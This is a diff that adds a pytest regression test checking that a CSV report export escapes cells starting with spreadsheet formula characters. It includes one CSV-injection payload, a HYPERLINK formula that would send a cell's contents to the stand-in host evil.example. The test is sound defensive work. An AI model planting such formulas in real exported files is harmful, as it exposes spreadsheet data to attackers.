@@ -84,6 +84,28 @@ def test_csv_tables_hold_the_figures(report: Report, tmp_path: Path) -> None:
     assert (topics[("delivery", "current")]["negative"], topics[("delivery", "current")]["total"]) == ("2", "4")
 
 
+def test_csv_cells_from_outside_are_never_read_as_formulas(
+    loaded: tuple[sessionmaker[Session], dict[int, int]], tmp_path: Path
+) -> None:
+    # A review written as a spreadsheet formula ran when the marketing team opened quotes.csv (CSV injection).
+    from sqlalchemy import update
+
+    from models import Mention
+    from tests.reports.conftest import make_report
+
+    sessions, ids = loaded
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'
+    with sessions.begin() as session:
+        session.execute(update(Mention).where(Mention.id == ids[3]).values(text=formula))
+    csv_export.write(make_report(sessions), tmp_path / "csv")
+    with (tmp_path / "csv" / "quotes.csv").open(encoding="utf-8") as handle:
+        texts = [row["text"] for row in csv.DictReader(handle)]
+    assert "'" + formula in texts and formula not in texts
+    assert not any(text.startswith(csv_export.FORMULA_STARTS) for text in texts)
+    # Numbers stay numbers: a negative NPS is a figure, not text to neutralise.
+    assert [csv_export.cell(v) for v in (-25.0, None, "@x", "+1", "ok")] == [-25.0, "", "'@x", "'+1", "ok"]
+
+
 @SQLITE
 def test_pdf_has_pages_and_the_report_headings(report: Report, tmp_path: Path) -> None:
     from pypdf import PdfReader
